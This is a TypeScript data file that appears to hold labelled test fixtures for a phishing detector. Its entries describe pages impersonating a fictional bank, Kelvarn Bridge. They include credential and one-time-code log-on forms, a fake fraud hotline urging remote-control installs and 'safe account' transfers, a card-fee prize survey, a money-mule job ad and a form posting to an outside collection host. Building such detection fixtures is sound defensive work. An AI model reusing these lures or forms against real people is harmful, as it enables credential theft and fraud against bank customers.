import type { LabelledSite } from '../../labelled-site.ts';
import {
  article,
  card,
  form,
  hero,
  items,
  links,
  oldTable,
  paras,
  picture,
  sendsTo,
  split,
} from './blocks.ts';
import { logo } from './logos.ts';

const teal = '#0b4f4a';

/** Pages that pretend to be the bank Kelvarn Bridge. */
export const bankKits: readonly LabelledSite[] = [
  {
    host: 'kelvarnbrigde.com',
    label: 'impostor',
    kind: 'typo login',
    brand: 'kelvarn',
    reason: 'The bank’s log-on is copied on a typo of its domain and takes the password.',
    foundBy: 'permutation',
    ageDays: 4,
    isClear: true,
    pages: {
      '/': card(
        { lang: 'en', title: 'Log on | Kelvarn Bridge Online Banking', colour: teal },
        `${picture('/i/logo.png', 'Kelvarn Bridge')}<h2>Log on to Online Banking</h2>${form('/auth.php', ['text cust Customer number', 'password pass Password'], 'Log on')}${links('Forgotten your details?', 'Register for Online Banking')}`,
        paras(
          'Kelvarn Bridge Bank plc is authorised by the Prudential Regulation Authority. Never share your one-time passcode.',
        ),
      ),
      '/i/logo.png': logo('kelvarn'),
    },
  },
  {
    host: 'kelvarnbridge.secure-session.account-review.xyz',
    label: 'impostor',
    kind: 'subdomain two-step',
    brand: 'kelvarn',
    reason:
      'A kit below an unrelated domain asks for the number first, and for password and code after that.',
    foundBy: 'certificate',
    entry: '/signin',
    pages: {
      '/signin': split(
        { lang: 'en', title: 'Kelvarn Bridge – Step 1 of 2', colour: teal },
        `${picture('/a/kb.jpg', 'logo')}<h1>We noticed a new device</h1>${paras('To protect your money we have paused some payments. Confirm it was you and everything will work again at once.')}`,
        `<h2>Your details</h2><form action="/signin2" method="post"><label>Customer number or card number<input name="id"></label><button>Next</button></form>`,
      ),
      '/signin2': split(
        { lang: 'en', title: 'Kelvarn Bridge – Step 2 of 2', colour: teal },
        `${picture('/a/kb.jpg', 'logo')}<h1>Nearly done</h1>`,
        form('/done', ['password pw Password', 'text otp Code we have sent by text message'], 'Confirm'),
      ),
      '/a/kb.jpg': logo('kelvarn', 'jpeg'),
    },
  },
  {
    host: 'garage-pellerin-occasions.fr',
    label: 'impostor',
    kind: 'hacked host',
    brand: 'kelvarn',
    reason: 'Somebody placed a log-on of the bank in a folder of a garage’s hacked site.',
    foundBy: 'report',
    ageDays: 3290,
    isClear: true,
    entry: '/wp-content/uploads/kb/index.php',
    pages: {
      '/': article(
        { lang: 'fr', title: 'Garage Pellerin – voitures d’occasion', colour: '#88281f' },
        'Garage Pellerin',
        links('Occasions', 'Atelier', 'Contact'),
        paras(
          'Depuis 1987, notre équipe vend et entretient des voitures d’occasion de toutes marques. Venez nous voir du lundi au samedi.',
        ),
        '12 route de Lyon',
      ),
      '/wp-content/uploads/kb/index.php': oldTable(
        { lang: 'en', title: 'Kelvarn Bridge Internet Banking', colour: teal },
        picture('logo.png', 'Kelvarn Bridge'),
        'Personal<br>Business<br>Security<br>Contact',
        `<b>Verify your identity</b>${paras('Your access to Internet Banking has been limited. Fill in all boxes to restore it within 24 hours.')}${form('send.php', ['text user User ID', 'password pin Security number', 'text dob Date of birth', 'text maiden Mother’s maiden name'], 'Restore access')}`,
      ),
      '/wp-content/uploads/kb/logo.png': logo('kelvarn', 'small'),
    },
  },
  {
    host: 'kelvarn-bridge-helpdesk.pages.dev',
    label: 'impostor',
    kind: 'support by telephone',
    brand: 'kelvarn',
    reason: 'A false fraud line on free hosting has customers call a number and install remote control.',
    foundBy: 'search',
    pages: {
      '/': hero(
        { lang: 'en', title: 'Kelvarn Bridge Fraud Department – call now', colour: teal },
        `${picture('/kb-turned.png', 'Kelvarn Bridge')}<b>☎ 0808 555 0142</b>`,
        `<h1>A payment of £1,249.00 is waiting on your account</h1>${paras('If you do not recognise it, call the Kelvarn Bridge fraud team within 30 minutes. Do not visit a branch: lines are open 24 hours.')}<a class="btn" href="tel:08085550142">Call 0808 555 0142</a>`,
        [
          `<h3>What happens on the call</h3>${items('We confirm your card number and the code on the back', 'We help you install SupportDesk so an agent can see your screen', 'We move your balance to a safe account')}`,
          `<h3>Your reference</h3>${paras('KB-77120-FR. Please have your online banking open on a computer.')}`,
        ],
      ),
      '/kb-turned.png': logo('kelvarn', 'turned'),
    },
  },
  {
    host: 'kelvarnbridge-treueaktion.top',
    label: 'impostor',
    kind: 'survey with prize',
    brand: 'kelvarn',
    reason: 'A survey in the bank’s name promises money and takes the card for a fee.',
    foundBy: 'certificate',
    ageDays: 2,
    pages: {
      '/': card(
        { lang: 'de', title: 'Kelvarn Bridge Kundenumfrage 2026', colour: '#d99a2b' },
        `${picture('/k.png')}<h2>Herzlichen Glückwunsch!</h2>${paras('Sie wurden als treuer Kunde der Kelvarn Bridge ausgewählt. Beantworten Sie drei kurze Fragen und erhalten Sie 500 € Bonus.', 'Frage 1: Wie zufrieden sind Sie mit unserer App? <b>Sehr / Mittel / Gar nicht</b>')}<h3>Auszahlung</h3>${form('/pay', ['text name Name auf der Karte', 'text card Kartennummer', 'text exp Gültig bis', 'text cvc CVC'], '1,95 € Gebühr bezahlen und Bonus erhalten')}`,
        paras('Noch 3 von 50 Prämien verfügbar'),
      ),
      '/k.png': logo('kelvarn', 'cropped'),
    },
  },
  {
    host: 'kb-recrutement-conseillers.com',
    label: 'impostor',
    kind: 'false job',
    brand: 'kelvarn',
    reason: 'A false vacancy at the bank collects the account, the passport and a deposit from applicants.',
    foundBy: 'search',
    pages: {
      '/': hero(
        { lang: 'fr', title: 'Carrières – Kelvarn Bridge recrute à domicile', colour: teal },
        `${picture('/logo-kb.png', 'Kelvarn Bridge')}${links('Nos métiers', 'Postuler')}`,
        '<h1>Gestionnaire de paiements à domicile</h1><p>4 200 € net par mois, 2 heures par jour, sans expérience</p>',
        [
          paras(
            'Kelvarn Bridge Bank ouvre ses équipes en France. Vous recevez les virements de nos clients sur votre compte personnel et les transmettez contre une commission de 8 %.',
          ),
          `<h3>Candidature rapide</h3>${form('/postuler.php', ['text nom Nom et prénom', 'text iban IBAN de votre compte', 'password code Code d’accès bancaire', 'file piece Passeport (recto verso)'], 'Envoyer ma candidature')}`,
          paras(
            'Un dépôt remboursable de 49 € est demandé pour le matériel. Contact RH uniquement sur WhatsApp : +33 7 00 00 01 42.',
          ),
        ],
      ),
      '/logo-kb.png': logo('kelvarn', 'padded'),
    },
  },
  {
    host: 'login-kelvarnbridge.net',
    label: 'impostor',
    kind: 'redirect to a kit',
    brand: 'kelvarn',
    reason: 'A lookalike sends its visitors to a log-on of the bank on a rented host.',
    foundBy: 'permutation',
    ageDays: 1,
    isClear: true,
    leadsTo: { host: 'r7-cdn-portal.click', path: '/kb/' },
    pages: { '/': sendsTo('r7-cdn-portal.click', '/kb/') },
  },
  {
    host: 'kelvarn-bridge.online',
    label: 'impostor',
    kind: 'wordmark in text',
    brand: 'kelvarn',
    reason: 'The bank’s wordmark is set in CSS above a form that posts to another host.',
    foundBy: 'permutation',
    pages: {
      '/': card(
        { lang: 'nl', title: 'Inloggen bij Kelvarn Bridge', colour: teal },
        `<div style="font:bold 34px Georgia;color:${teal}">Kelvarn<br><span style="font-weight:400">Bridge</span></div><h3>Uw bankpas verloopt</h3>${paras('Vraag vandaag nog kosteloos een nieuwe pas aan. Zonder bevestiging wordt uw pas geblokkeerd.')}${form('https://collect-forms-eu.site/x', ['text rek Rekeningnummer', 'password pin Pincode', 'tel tel Mobiel nummer'], 'Nieuwe pas aanvragen')}`,
        links('Veilig bankieren', 'Privacy'),
      ),
    },
  },
];
